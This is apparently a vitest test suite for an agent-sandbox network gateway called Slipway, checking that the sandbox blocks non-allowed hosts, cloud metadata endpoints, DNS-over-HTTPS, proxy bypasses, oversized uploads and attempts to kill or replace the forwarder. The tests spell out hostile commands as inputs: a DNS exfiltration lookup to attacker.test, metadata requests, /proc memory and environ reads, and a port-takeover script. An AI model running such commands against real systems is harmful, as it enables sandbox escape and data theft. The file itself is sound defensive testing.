import { once } from "node:events";
import { createServer } from "node:net";
import { networkInterfaces } from "node:os";
import { expect, test } from "vitest";
import { openTestGateway } from "./open-test-gateway.ts";

const status = "curl -sS -m 10 -o /dev/null -w '%{http_code}'";

test("what is listed is reached, and what is not is refused and told", async () => {
  await using sandbox = await openTestGateway();
  expect(await sandbox.run("curl -sS http://allowed.test/")).toBe("hello from outside\n");
  expect(await sandbox.run("node -e 'fetch(\"http://allowed.test/\").then((r) => r.text()).then(console.log)'")).toBe(
    "hello from outside\n\n",
  );
  expect(await sandbox.run("curl -sS http://other.test/")).toBe("Slipway: other.test:80: The host is not on the allowed list.\n");
  expect(sandbox.events).toMatchObject([
    { type: "network.allowed", host: "allowed.test", method: "GET", reason: null },
    { type: "network.allowed", host: "allowed.test", method: "GET", reason: null },
    { type: "network.denied", host: "other.test", port: 80 },
  ]);
});

test("N01, N02: with the gateway open the host's own services stay unreachable on every address", async () => {
  let reached = 0;
  const service = createServer((socket) => {
    reached += 1;
    socket.destroy();
  }).listen(0, "0.0.0.0");
  await once(service, "listening");
  const place = service.address();
  const port = typeof place === "object" ? place?.port : 0;
  const addresses = Object.values(networkInterfaces()).flatMap((list) => (list ?? []).map(({ address }) => address));
  await using sandbox = await openTestGateway({ policy: { mode: "public", rules: [] } });
  const script = `import socket
for a in ${JSON.stringify([...addresses.filter((address) => !address.startsWith("127.") && address !== "::1"), "172.17.0.1"])}:
  try: socket.create_connection((a, ${port}), 2); print("open")
  except OSError as e: print(e.errno)`;
  // Network unreachable; for link-local addresses, no such address and no such interface.
  expect((await sandbox.run(`python3 - <<'END'\n${script}\nEND`)).trim()).toMatch(/^((101|99|22)\n?)+$/);
  for (const address of addresses)
    expect(await sandbox.run(`${status} http://${address.includes(":") ? `[${address}]` : address}/`)).toMatch(/403|000/);
  expect(reached).toBe(0);
  service.close();
});

test("N03, N05: metadata services and DNS over HTTPS are neither routed nor proxied", async () => {
  await using sandbox = await openTestGateway();
  for (const host of ["169.254.169.254", "metadata.google.internal", "[fd00:ec2::254]"]) {
    expect(await sandbox.run(`${status} http://${host}/latest/meta-data/`)).toBe("403");
    expect(await sandbox.run(`${status} --noproxy '*' http://${host}/ 2>/dev/null`)).toBe("000");
  }
  expect(await sandbox.run("curl -sS -m 5 https://dns.google/resolve?name=a 2>&1")).toMatch(/403/);
  expect(sandbox.reached()).toBe(0);
});

test("N04: no name is resolved for a sandbox but the listed one that it asks the gateway for", async () => {
  const resolved: string[] = [];
  const resolve = async (host: string) => {
    resolved.push(host);
    return ["93.184.215.14"];
  };
  await using sandbox = await openTestGateway({ resolve });
  await sandbox.run(
    "getent hosts c2VjcmV0.attacker.test; curl -sS http://c2VjcmV0.attacker.test/; curl -sS http://allowed.test/; curl -sS --doh-url https://1.1.1.1/dns-query --noproxy '*' -m 5 http://x.test/",
  );
  expect(resolved).toEqual(["allowed.test"]);
});

test("N07: programs that go around the proxy reach nothing", async () => {
  await using sandbox = await openTestGateway();
  const ways = [
    "env -u http_proxy -u HTTP_PROXY curl",
    "env NO_PROXY='*' no_proxy='*' curl",
    "curl --noproxy '*'",
    "curl --connect-to ::1.1.1.1:80 --noproxy '*'",
  ];
  for (const way of ways)
    expect(await sandbox.run(`${way} -sS -m 5 -o /dev/null -w '%{http_code}' http://allowed.test/ 2>/dev/null`)).toBe("000");
  expect(sandbox.reached()).toBe(0);
});

test("N17: 50 MB of upload are cut at the cap", async () => {
  let received = 0;
  await using sandbox = await openTestGateway({
    onOutside: (request, response) => {
      request.on("data", (chunk: Buffer) => (received += chunk.length));
      request.on("end", () => response.end());
    },
  });
  await sandbox.run("head -c 50M /dev/zero | curl -sS -m 50 -o /dev/null -X POST -H 'Expect:' --data-binary @- http://allowed.test/ 2>&1");
  expect(received).toBeLessThanOrEqual(5 * 2 ** 20);
  await expect
    .poll(() => sandbox.events, { timeout: 20_000 })
    .toMatchObject([{ type: "network.denied", reason: "What this attempt may send out is used up." }]);
  expect(await sandbox.run(`${status} http://allowed.test/`)).toBe("403");
});

test("N20, N25: a sandbox finds its own gateway alone, and no socket of anyone else's", async () => {
  await using one = await openTestGateway();
  await using other = await openTestGateway({ policy: { mode: "public", rules: [] } });
  await one.run("curl -sS http://only-the-other.test/");
  expect([other.events, other.reached()]).toEqual([[], 0]);
  expect(await one.run("tail -n +2 /proc/net/unix; ls /run/docker.sock /var/run/docker.sock /run/containerd 2>/dev/null")).toBe("");
  expect(await one.run("cat /proc/net/tcp /proc/net/tcp6 | awk '$4 == \"0A\" { print $2 }'; tail -n +2 /proc/net/udp")).toBe(
    "0100007F:0C38\n",
  );
});

test("N21, N22: the agent can neither end, nor read, nor replace the inner half", async () => {
  await using sandbox = await openTestGateway();
  const find = "grep -l '^forward$' /proc/[0-9]*/comm | cut -d/ -f3";
  const pid = (await sandbox.run(find)).trim();
  expect(pid).toMatch(/^\d+$/);
  const attempts = [
    `kill -9 ${pid}`,
    `echo x >/proc/${pid}/fd/0`,
    `cat /proc/${pid}/environ`,
    `cat /proc/${pid}/mem`,
    "rm -f /opt/slipway/forward",
    "echo x >/opt/slipway/forward",
  ];
  for (const attempt of attempts)
    expect(await sandbox.run(`{ ${attempt}; } >/dev/null 2>&1 && echo done || echo refused`)).toBe("refused\n");
  const bind =
    "import socket\ns = socket.socket(); s.setsockopt(1, 2, 1); s.setsockopt(1, 15, 1)\ntry: s.bind(('127.0.0.1', 3128)); s.listen(); print('listens')\nexcept OSError as e: print(e.errno)";
  expect(await sandbox.run(`python3 - <<'END'\n${bind}\nEND`)).toBe("98\n");
  await sandbox.run("kill -9 -1");
  expect(await sandbox.run("curl -sS http://allowed.test/")).toBe("hello from outside\n");
});

test("N22: root of a setup that ends the inner half and takes its place harms itself alone, and the gateway comes back", async () => {
  await using sandbox = await openTestGateway({ role: "setup" });
  const takeOver = `import os, signal, socket, time
for p in filter(str.isdigit, os.listdir("/proc")):
  try:
    if open(f"/proc/{p}/comm").read() == "forward\\n": victim = int(p)
  except OSError: pass
if os.fork() == 0:
  os.setgid(65534); os.setuid(65534); os.kill(victim, signal.SIGKILL); os._exit(0)
os.wait()
s = socket.socket(); s.setsockopt(1, 2, 1)
for _ in range(100):
  try: s.bind(("127.0.0.1", 3128)); break
  except OSError: time.sleep(0.02)
s.listen(); print("taken", flush=True)
os.system("curl -sS -m 2 http://allowed.test/ 2>&1")`;
  expect(await sandbox.run(`python3 - <<'END'\n${takeOver}\nEND`)).toMatch(/^taken\ncurl: \(28\)/);
  expect(sandbox.reached()).toBe(0);
  const again = "for i in $(seq 100); do curl -sS http://allowed.test/ 2>/dev/null && break; sleep 0.1; done";
  expect(await sandbox.run(again)).toBe("hello from outside\n");
});

test("N23: what a phase opened ends with its gateway", async () => {
  await using sandbox = await openTestGateway({ onOutside: (_request, response) => void response.write("begun\n") });
  const running = sandbox.run("curl -sS -N http://allowed.test/ 2>&1; curl -sS http://allowed.test/ 2>&1");
  while (sandbox.reached() === 0) await new Promise((resolve) => setTimeout(resolve, 10));
  await sandbox.gateway[Symbol.asyncDispose]();
  expect(await running).toMatch(/curl: \((18|52|56)\)[\s\S]*curl: \(7\)/);
});

test("at its process limit a sandbox keeps its gateway", async () => {
  await using sandbox = await openTestGateway();
  await sandbox.run("while :; do sleep 1000 & done", 3_000);
  expect(await sandbox.run("curl -sS http://allowed.test/")).toContain("hello from outside\n");
});
